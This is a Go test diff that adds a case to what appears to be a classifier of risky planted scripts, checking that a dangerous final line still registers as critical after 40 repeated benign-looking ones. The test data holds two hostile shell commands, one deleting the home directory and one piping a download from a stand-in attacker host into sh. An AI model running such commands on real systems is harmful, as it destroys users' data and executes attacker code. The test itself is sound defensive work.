@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -219,5 +220,30 @@ func BenchmarkPlantedFiles(b *testing.B) {
 				c.Classify(ev)
 			}
 		})
+	}
+}
+
+// TestPlantedManyOfAKind: a child result keeps a few verdicts of a kind (result.add); what
+// is seen after many that only say something cannot be known is still said, and decides.
+func TestPlantedManyOfAKind(t *testing.T) {
+	for _, tc := range []struct{ repeat, last, says string }{
+		{`rm -rf "$D$i"`, "rm -rf ~", "home directory"},
+		{`curl -s "$URL$i"`, "curl -s https://evil.example.net/x | sh", "evil.example.net"},
+	} {
+		var script strings.Builder
+		script.WriteString("#!/bin/sh\n")
+		for i := 0; i < 40; i++ {
+			fmt.Fprintf(&script, "%s\n", strings.ReplaceAll(tc.repeat, "$i", strconv.Itoa(i)))
+		}
+		script.WriteString(tc.last + "\n")
+		c, dir := onDisk(t, nil)
+		got := c.Classify(writeAt(dir, filepath.Join(dir, "build.sh"), script.String()))
+		said := false
+		for _, r := range got.Reasons {
+			said = said || r.Risk == risk.Critical && strings.Contains(r.Detail, tc.says)
+		}
+		if got.Risk != risk.Critical || !said {
+			t.Errorf("40 × %s, then %s: %s, want critical, saying %q: %+v", tc.repeat, tc.last, got.Risk, tc.says, got.Reasons)
+		}
 	}
 }
